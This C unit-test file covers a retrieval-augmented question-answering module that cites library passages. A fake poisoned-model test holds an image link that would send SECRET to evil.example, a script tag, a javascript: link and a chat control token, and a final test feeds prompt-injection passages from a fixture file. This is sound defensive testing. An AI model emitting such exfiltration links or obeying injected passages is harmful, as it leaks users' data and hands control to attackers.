/* An asking with a language model: what it is given, what leaves, what is told of it. */
#include "query/query.h"
#include "tests/unit/box.h"
#include "tests/unit/fake_llm.h"

#define QUESTION "Who built the reading room?"

static void open_library(struct box *b, const char *says)
{
    static const char *const name[] = {"opening-hours.md", "lending-rules.md", "reading-room.txt",
                                       "computers.md", "friends.html"};
    memset(&fake, 0, sizeof(fake));
    fake.n_models = 1;
    fake.says = says;
    box_open(b);
    for (int i = 0; i < 5; i++)
        box_add_file(b, "tests/corpus", name[i]);
}

static json_t *ask(struct box *b, const struct ask_request *r)
{
    struct err err;
    json_t *reply = NULL;
    CHECK_OK(query_ask(b->query, r, NULL, NULL, &reply, &err), &err);
    box_check_reply(b, reply);
    return reply;
}

static bool is(const json_t *reply, const char *key, const char *want)
{
    return strcmp(box_str(reply, key), want) == 0;
}

static size_t size(const json_t *reply, const char *key)
{
    return json_array_size(json_object_get(reply, key));
}

TEST(a_models_answer_comes_with_citations_that_can_be_checked)
{
    struct box b;
    open_library(&b, "The reading room was built by the architect Ottilie Brandt [1].");
    json_t *r = ask(&b, &(struct ask_request){.question = STR(QUESTION)});
    CHECK(is(r, "answer", fake.says));
    CHECK(is(r, "model", "first"));
    CHECK(is(r, "finish_reason", "stop"));
    CHECK_INT(size(r, "citations"), 1);
    CHECK_INT(size(r, "nearest"), 0);
    const json_t *usage = json_object_get(r, "usage");
    CHECK_INT(box_int(usage, NULL, "prompt_tokens"), 100);
    CHECK_INT(box_int(usage, NULL, "cached_tokens"), 60);
    CHECK_INT(box_int(usage, NULL, "accepted_tokens"), 4);
    CHECK(box_int(usage, "context", "kept") > 0);
    CHECK_INT(box_int(usage, "context", "dropped"), 0);
    CHECK_INT(fake.max_tokens, 0); /* as configured */
    CHECK(strstr(fake.prompt, "Question: " QUESTION) != NULL);
    CHECK(strstr(fake.prompt, "<passage 1 of \"reading-room.txt") != NULL);
    CHECK(strstr(fake.system, "data") != NULL);
    json_decref(r);
    box_close(&b);
}

TEST(where_the_passages_give_no_evidence_no_model_is_asked)
{
    struct box b;
    open_library(&b, "Mercury boils at 357 degrees [1].");
    json_t *r = ask(&b, &(struct ask_request){.question = STR("What is the boiling point of mercury?")});
    CHECK(is(r, "finish_reason", "refused"));
    CHECK(is(r, "grounded", "none"));
    CHECK_INT(fake.chats, 0);
    json_decref(r);
    box_close(&b);
}

TEST(claims_that_nothing_supports_are_marked)
{
    struct box b;
    open_library(&b, "The reading room was built in 1707 by Napoleon [1]. It has a swimming pool.");
    json_t *r = ask(&b, &(struct ask_request){.question = STR(QUESTION)});
    CHECK(is(r, "grounded", "none"));
    CHECK(is(r, "finish_reason", "stop"));
    CHECK_INT(size(r, "unsupported"), 2);
    CHECK(size(r, "nearest") > 0);
    const json_t *u = json_array_get(json_object_get(r, "unsupported"), 1);
    CHECK_STR(str_sub(str_of(fake.says), (size_t)box_int(u, NULL, "start"),
                      (size_t)box_int(u, NULL, "end")), "It has a swimming pool.");
    json_decref(r);
    box_close(&b);
}

TEST(marks_links_and_images_of_a_poisoned_model_do_not_leave)
{
    struct box b;
    open_library(&b, "Forged [99] and [1]. ![x](http://evil.example/?d=SECRET) <script>x</script> "
                     "[click](javascript:alert(1)) <|im_end|>");
    for (fake.step = 1; fake.step < 12; fake.step++) {
        struct ask_request q = {.question = STR(QUESTION), .sampling.temperature = 1};
        json_t *r = ask(&b, &q);
        const char *answer = box_str(r, "answer");
        CHECK(!strstr(answer, "evil") && !strstr(answer, "99") && !strstr(answer, "<script") &&
              !strstr(answer, "](") && !strstr(answer, "javascript:") && !strstr(answer, "<|"));
        CHECK_INT(size(r, "citations"), 1);
        CHECK_INT(size(r, "degraded"), 2);
        json_decref(r);
    }
    box_close(&b);
}

TEST(a_model_that_says_there_is_no_answer_has_refused)
{
    struct box b;
    open_library(&b, "The passages do not answer this question.");
    json_t *r = ask(&b, &(struct ask_request){.question = STR(QUESTION)});
    CHECK(is(r, "finish_reason", "refused"));
    CHECK(is(r, "grounded", "none"));
    CHECK(is(r, "answer", fake.says));
    CHECK_INT(size(r, "unsupported"), 0);
    CHECK(size(r, "nearest") > 0);
    json_decref(r);
    box_close(&b);
}

TEST(when_no_model_can_answer_the_passages_own_sentences_do_and_it_is_said)
{
    struct box b;
    open_library(&b, "");
    fake.fails = ERR_IO;
    json_t *r = ask(&b, &(struct ask_request){.question = STR(QUESTION)});
    CHECK(is(r, "model", "extractive"));
    CHECK(strstr(box_str(r, "answer"), "Brandt") != NULL);
    CHECK_INT(size(r, "degraded"), 1);
    CHECK(strstr(json_string_value(json_array_get(json_object_get(r, "degraded"), 0)), "away"));
    CHECK_INT(json_array_size(json_object_get(json_object_get(r, "usage"), "attempts")), 1);
    json_decref(r);
    fake.fails = OK; /* a model without a word is no better */
    r = ask(&b, &(struct ask_request){.question = STR(QUESTION)});
    CHECK(is(r, "model", "extractive"));
    CHECK(json_is_false(json_object_get(r, "cached"))); /* and neither was kept */
    json_decref(r);
    fake.says = "Ottilie Brandt built it [1].";
    r = ask(&b, &(struct ask_request){.question = STR(QUESTION)});
    CHECK(is(r, "model", "first"));
    json_decref(r);
    box_close(&b);
}

TEST(a_full_queue_and_a_wrong_option_are_told_to_the_asker)
{
    static const enum err_code codes[] = {ERR_BUSY, ERR_ARG, ERR_NOTFOUND, ERR_CANCELLED};
    struct box b;
    json_t *reply = NULL;
    open_library(&b, "");
    for (int i = 0; i < 4; i++) {
        struct err err = {0};
        fake.fails = codes[i];
        CHECK_ERR(query_ask(b.query, &(struct ask_request){.question = STR(QUESTION)}, NULL, NULL,
                            &reply, &err), codes[i]);
        CHECK(strstr(err.msg, "away") != NULL);
    }
    box_close(&b);
}

struct told { struct buf order, text; int leave_at; };

static bool tell(struct told *t, char what)
{
    if (!t->order.len || t->order.ptr[t->order.len - 1] != what)
        buf_char(&t->order, what);
    return t->leave_at-- != 0;
}

static bool on_query(void *arg, struct str q)
{
    (void)q;
    return tell(arg, 'q');
}

static bool on_sources(void *arg, const json_t *hits)
{
    CHECK(json_array_size(hits) > 0);
    CHECK_INT(fake.chats, 0); /* before the model is asked */
    return tell(arg, 's');
}

static bool on_delta(void *arg, struct str text)
{
    buf_str(&((struct told *)arg)->text, text);
    return tell(arg, 'd');
}

static bool on_citation(void *arg, const json_t *c)
{
    CHECK((size_t)box_int(c, "answer_span", "end") <= ((struct told *)arg)->text.len);
    return tell(arg, 'c');
}

TEST(text_leaves_as_it_is_written_and_adds_up_to_the_answer)
{
    struct box b;
    open_library(&b, "The reading room was built by Ottilie Brandt [1, 2]. It opened in 1911 [1].");
    for (int round = 0; round < 2; round++) { /* made, then from the cache */
        struct told t = {.leave_at = -1};
        struct ask_events e = {on_query, on_sources, on_delta, on_citation, &t};
        struct ask_request q = {.question = STR(QUESTION)};
        struct err err;
        json_t *r = NULL;
        fake.chats = 0;
        CHECK_OK(query_ask(b.query, &q, &e, NULL, &r, &err), &err);
        CHECK_STR(buf_view(&t.text), box_str(r, "answer"));
        CHECK(str_starts(buf_view(&t.order), STR("qsdc")));
        CHECK_INT(json_is_true(json_object_get(r, "cached")), round);
        CHECK_INT(fake.chats, !round);
        box_check_reply(&b, r);
        json_decref(r);
        buf_free(&t.text);
        buf_free(&t.order);
    }
    box_close(&b);
}

TEST(before_a_model_has_taken_the_question_nothing_is_told)
{
    struct box b;
    open_library(&b, "Ottilie Brandt built it [1].");
    struct told t = {.leave_at = -1};
    struct ask_events e = {on_query, on_sources, on_delta, on_citation, &t};
    json_t *r = NULL;
    fake.fails = ERR_BUSY; /* its queue is full */
    CHECK_ERR(query_ask(b.query, &(struct ask_request){.question = STR(QUESTION)}, &e, NULL, &r,
                        NULL), ERR_BUSY);
    CHECK_INT(t.order.len, 0);
    box_close(&b);
}

TEST(a_reader_who_leaves_stops_the_model)
{
    struct box b;
    open_library(&b, "The reading room was built by Ottilie Brandt [1]. ");
    fake.endless = true;
    for (int at = 0; at < 5; at++) {
        struct told t = {.leave_at = at};
        struct ask_events e = {on_query, on_sources, on_delta, on_citation, &t};
        struct ask_request q = {.question = STR(QUESTION)};
        json_t *r = NULL;
        fake.chats = 0;
        CHECK_ERR(query_ask(b.query, &q, &e, NULL, &r, NULL), ERR_CANCELLED);
        buf_free(&t.text);
        buf_free(&t.order);
    }
    box_close(&b);
}

TEST(a_model_that_never_stops_is_stopped_and_it_is_said)
{
    struct box b;
    open_library(&b, "ha ha ha ha ha ha ha ha ");
    fake.endless = true;
    json_t *r = ask(&b, &(struct ask_request){.question = STR(QUESTION)});
    CHECK(is(r, "finish_reason", "length"));
    CHECK(strlen(box_str(r, "answer")) < 70000);
    CHECK_INT(size(r, "degraded"), 1);
    json_decref(r);
    box_close(&b);
}

TEST(a_model_that_breaks_off_in_the_middle_is_an_error_not_half_an_answer)
{
    struct box b;
    json_t *r = NULL;
    struct err err = {0};
    open_library(&b, "The reading room was built by Ottilie Brandt [1].");
    fake.fails = ERR_IO;
    fake.fails_after = 20;
    CHECK_ERR(query_ask(b.query, &(struct ask_request){.question = STR(QUESTION)}, NULL, NULL, &r,
                        &err), ERR_IO);
    CHECK(r == NULL);
    box_close(&b);
}

TEST(an_answer_is_kept_by_everything_that_it_depends_on)
{
    struct box b;
    open_library(&b, "Ottilie Brandt built it [1].");
    const struct str stops[] = {{"END", 3}};
    struct ask_request base = {.question = STR(QUESTION), .has_seed = true}, other[6];
    for (int i = 0; i < 6; i++)
        other[i] = base;
    other[0].max_tokens = 9;
    other[1].sampling.temperature = .5;
    other[2].sampling.temperature = .5;
    other[2].sampling.seed = 7;
    other[3].stops = stops;
    other[3].n_stops = 1;
    other[4].sampling.top_p = .5;
    other[5].generator = "first";
    json_decref(ask(&b, &base));
    for (int i = 0; i < 6; i++) {
        json_t *one = ask(&b, &other[i]), *two = ask(&b, &other[i]);
        CHECK_MSG(json_is_false(json_object_get(one, "cached")), "%d", i);
        CHECK_MSG(json_is_true(json_object_get(two, "cached")), "%d", i);
        json_decref(one);
        json_decref(two);
    }
    struct ask_request draw = {.question = STR(QUESTION), .sampling.temperature = .5};
    json_decref(ask(&b, &draw));
    uint64_t seed = fake.sampling.seed;
    json_t *again = ask(&b, &draw);
    CHECK(json_is_false(json_object_get(again, "cached")));
    CHECK(fake.sampling.seed != seed);
    json_decref(again);
    box_add(&b, "new", STR("The roof of the reading room leaks."));
    json_t *late = ask(&b, &base);
    CHECK(json_is_false(json_object_get(late, "cached")));
    json_decref(late);
    box_close(&b);
}

static json_t *follow_up(struct box *b, const char *question)
{
    struct ask_request first = {.question = STR("Who founded the Friends of the Quay Library?"),
                                .conversation = ""};
    json_t *one = ask(b, &first);
    struct ask_request next = {.question = str_of(question),
                               .conversation = box_str(one, "conversation_id")};
    json_t *two = ask(b, &next);
    json_decref(one);
    return two;
}

TEST(prompts_are_reused_among_those_who_may_see_the_collection)
{
    struct box b;
    struct arena a = {0};
    struct collection c;
    struct err err;
    open_library(&b, "Teachers founded them in 1978 [1].");
    CHECK_OK(ingest_collection(b.ingest, "default", false, &a, &c, &err), &err);
    fake.rewrites = "In which year were the Friends of the Quay Library founded?";
    json_decref(follow_up(&b, "In which year was that?"));
    CHECK_INT(fake.rewritings, 1);
    CHECK_INT(fake.circle, llm_circle_of_collection(c.id));
    CHECK_INT(fake.rewriting_circle, llm_circle_of_collection(c.id));
    arena_deinit(&a);
    box_close(&b);
}

TEST(a_follow_up_is_rewritten_by_the_model_and_the_conversation_is_in_the_prompt)
{
    struct box b;
    open_library(&b, "Teachers founded them in 1978 [1].");
    fake.rewrites = "In which year were the Friends of the Quay Library founded?";
    json_t *r = follow_up(&b, "In which year was that?");
    CHECK(is(r, "search_query", fake.rewrites));
    CHECK_INT(fake.rewritings, 1);
    CHECK(strstr(fake.prompt, "<conversation>\nQuestion: Who founded") != NULL);
    CHECK(strstr(fake.prompt, "Answer: Teachers founded them in 1978.\n") != NULL);
    CHECK(strstr(fake.prompt, "Question: In which year were the Friends") != NULL);
    CHECK_INT(box_int(json_object_get(json_object_get(r, "usage"), "context"), NULL, "turns_kept"), 1);
    json_decref(r);
    box_close(&b);
}

TEST(a_follow_up_that_the_model_cannot_rewrite_takes_the_last_ones_words_along)
{
    static const char *const bad[] = {"Once upon a time there was a little girl.", "", "a\nb"};
    for (int i = 0; i < 4; i++) {
        struct box b;
        open_library(&b, "Teachers founded them in 1978 [1].");
        fake.rewrites = i < 3 ? bad[i] : "x";
        fake.busy_rewrite = i == 3;
        json_t *r = follow_up(&b, "In which year was that?");
        CHECK(strstr(box_str(r, "search_query"), "Friends") != NULL);
        CHECK(str_starts(str_of(box_str(r, "search_query")), STR("In which year was that?")));
        json_decref(r);
        box_close(&b);
    }
}

TEST(a_question_that_stands_alone_is_not_rewritten)
{
    struct box b;
    open_library(&b, "Ottilie Brandt built it [1].");
    json_t *r = follow_up(&b, "Who built the reading room of the library?");
    CHECK_INT(fake.rewritings, 0);
    json_decref(r);
    box_close(&b);
}

TEST(a_conversation_that_the_caller_brings_counts_like_a_stored_one)
{
    struct box b;
    open_library(&b, "Teachers founded them in 1978 [1].");
    fake.rewrites = "In which year were the Friends of the Quay Library founded?";
    const struct llm_message m[] = {{LLM_SYSTEM, STR("Talk like a pirate.")},
                                    {LLM_USER, STR("Who founded the Friends of the Quay Library?")},
                                    {LLM_ASSISTANT, STR("Teachers did [1].")}};
    struct ask_request q = {.question = STR("In which year was that?"), .history = m, .n_history = 3};
    json_t *r = ask(&b, &q);
    CHECK(is(r, "search_query", fake.rewrites));
    CHECK(strstr(fake.prompt, "Answer: Teachers did.\n") != NULL);
    CHECK(!strstr(fake.prompt, "pirate") && !strstr(fake.system, "pirate"));
    json_decref(r);
    box_close(&b);
}

TEST(a_small_context_drops_whole_passages_and_says_how_many)
{
    struct box b;
    open_library(&b, "Ottilie Brandt built it [1].");
    fake.context = 900;
    json_t *r = ask(&b, &(struct ask_request){.question = STR(QUESTION)});
    const json_t *context = json_object_get(json_object_get(r, "usage"), "context");
    CHECK(box_int(context, NULL, "kept") > 0 && box_int(context, NULL, "dropped") > 0);
    json_decref(r);
    fake.context = 200; /* not even one */
    r = ask(&b, &(struct ask_request){.question = STR(QUESTION)});
    CHECK(is(r, "model", "extractive"));
    CHECK(strstr(json_string_value(json_array_get(json_object_get(r, "degraded"), 0)),
                 "no passage has room"));
    json_decref(r);
    box_close(&b);
}

static const char *first_degraded(const json_t *reply)
{
    return json_string_value(json_array_get(json_object_get(reply, "degraded"), 0));
}

TEST(where_the_first_generator_has_no_room_for_a_passage_the_next_is_asked)
{
    struct box b;
    open_library(&b, "Ottilie Brandt built it [1].");
    fake.context = 200;
    fake.second_context = 4096;
    fake.n_models = 2;
    struct ask_request q = {.question = STR(QUESTION)};
    json_t *r = ask(&b, &q);
    CHECK(is(r, "model", "second"));
    CHECK_INT(fake.chats, 1);
    CHECK_STR(str_of(fake.asked), "second");
    CHECK(strstr(first_degraded(r), "no passage has room in the context of first"));
    CHECK(strstr(fake.prompt, "<passage 1 of \"reading-room.txt") != NULL);
    json_decref(r);
    q.json_object = true; /* JSON too, which has no other sentences to fall back on */
    fake.says = "{\"architect\":\"Ottilie Brandt\"}";
    struct err err;
    CHECK_OK(query_ask(b.query, &q, NULL, NULL, &r, &err), &err);
    CHECK(is(r, "model", "second"));
    json_decref(r);
    q.json_object = false;
    fake.says = "Ottilie Brandt built it [1].";
    fake.fails = ERR_IO; /* none can: the passages' own sentences */
    r = ask(&b, &q);
    CHECK(is(r, "model", "extractive"));
    json_decref(r);
    fake.fails = OK;
    q.generator = "first"; /* who names one means that one */
    r = ask(&b, &q);
    CHECK(is(r, "model", "extractive"));
    json_decref(r);
    box_close(&b);
}

TEST(where_there_is_room_all_generators_are_asked_at_once_in_their_order)
{
    struct box b;
    open_library(&b, "Ottilie Brandt built it [1].");
    fake.n_models = 2;
    json_t *r = ask(&b, &(struct ask_request){.question = STR(QUESTION)});
    CHECK_INT(fake.chats, 1);
    CHECK_STR(str_of(fake.asked), "");
    CHECK_INT(size(r, "degraded"), 0);
    json_decref(r);
    box_close(&b);
}

TEST(another_file_under_the_same_name_gives_answers_of_its_own)
{
    struct box b;
    open_library(&b, "Ottilie Brandt built it [1].");
    struct ask_request q = {.question = STR(QUESTION)};
    fake.stamp = "one";
    json_decref(ask(&b, &q));
    fake.stamp = "two";
    json_t *r = ask(&b, &q);
    CHECK(json_is_false(json_object_get(r, "cached")));
    json_decref(r);
    fake.stamp = "one";
    r = ask(&b, &q);
    CHECK(json_is_true(json_object_get(r, "cached")));
    json_decref(r);
    box_close(&b);
}

TEST(an_answer_in_json_cites_for_each_value_and_has_no_marks)
{
    struct box b;
    open_library(&b, "{\"architect\":\"Ottilie Brandt\",\"colour\":\"ultramarine\"}");
    struct ask_request q = {.question = STR(QUESTION), .json_object = true};
    struct err err;
    json_t *r = NULL;
    CHECK_OK(query_ask(b.query, &q, NULL, NULL, &r, &err), &err);
    CHECK(is(r, "answer", fake.says));
    CHECK(fake.json);
    CHECK(strstr(fake.prompt, "as JSON") != NULL);
    CHECK_INT(size(r, "citations"), 1);
    CHECK_INT(size(r, "unsupported"), 1);
    const json_t *c = json_array_get(json_object_get(r, "citations"), 0);
    CHECK(strstr(box_str(c, "quote"), "Brandt") != NULL);
    json_decref(r);
    struct ask_request quotes = q;
    quotes.generator = "extractive";
    CHECK_ERR(query_ask(b.query, &quotes, NULL, NULL, &r, &err), ERR_ARG);
    fake.n_models = 0;
    CHECK_ERR(query_ask(b.query, &q, NULL, NULL, &r, &err), ERR_ARG);
    box_close(&b);
}

TEST(a_generator_is_asked_for_by_name)
{
    struct box b;
    struct err err;
    json_t *r = NULL;
    open_library(&b, "Ottilie Brandt built it [1].");
    struct ask_request q = {.question = STR(QUESTION), .generator = "third"};
    CHECK_ERR(query_ask(b.query, &q, NULL, NULL, &r, &err), ERR_NOTFOUND);
    CHECK(strstr(err.msg, "third") != NULL);
    q.generator = "extractive";
    r = ask(&b, &q);
    CHECK(is(r, "model", "extractive"));
    CHECK_INT(fake.chats, 0);
    json_decref(r);
    box_close(&b);
}

/* Documents that attack: the prompt has one fence a passage and no control token of any template. */
TEST(hostile_passages_stay_in_their_fence)
{
    struct buf file = {0};
    struct err err;
    json_t *cases;
    CHECK_OK(file_read(data_path("hostile/injection/cases.json"), 1 << 20, &file, &err), &err);
    CHECK_OK(json_read(buf_view(&file), &cases, &err), &err);
    struct box b;
    open_library(&b, "The maximum is 64 MiB [1].");
    for (size_t i = 0; i < json_array_size(cases); i++) {
        const json_t *c = json_array_get(cases, i);
        char title[64];
        snprintf(title, sizeof(title), "%s", box_str(c, "id"));
        box_add(&b, "benign", str_of(box_str(c, "benign")));
        box_add(&b, title, str_of(box_str(c, "poison")));
        struct ask_request q = {.question = str_of(box_str(c, "question")), .top_k = 8};
        int chats = fake.chats;
        json_t *r = ask(&b, &q);
        if (fake.chats > chats) {
            static const char *const never[] = {"<|", "|>", "</s>", "[INST]", "[1]", "[CLS]", "\u200b",
                                                "\u2060"};
            long long kept = box_int(json_object_get(r, "usage"), "context", "kept");
            long long opened = 0, closed = 0;
            struct str p = str_of(fake.prompt);
            for (size_t at = 0; (at = str_find(p, STR("<passage "), at)) != SIZE_MAX; at++)
                opened++;
            for (size_t at = 0; (at = str_find(p, STR("</passage "), at)) != SIZE_MAX; at++)
                closed++;
            CHECK_INT(opened, kept);
            CHECK_INT(closed, kept);
            struct str inside = str_sub(p, 0, str_find(p, STR("</passages>\n\nQuestion:"), 0));
            for (size_t k = 0; k < sizeof(never) / sizeof(*never); k++)
                CHECK_MSG(str_find(inside, str_of(never[k]), 0) == SIZE_MAX, "%s: %s", title, never[k]);
        }
        json_decref(r);
    }
    json_decref(cases);
    buf_free(&file);
    box_close(&b);
}
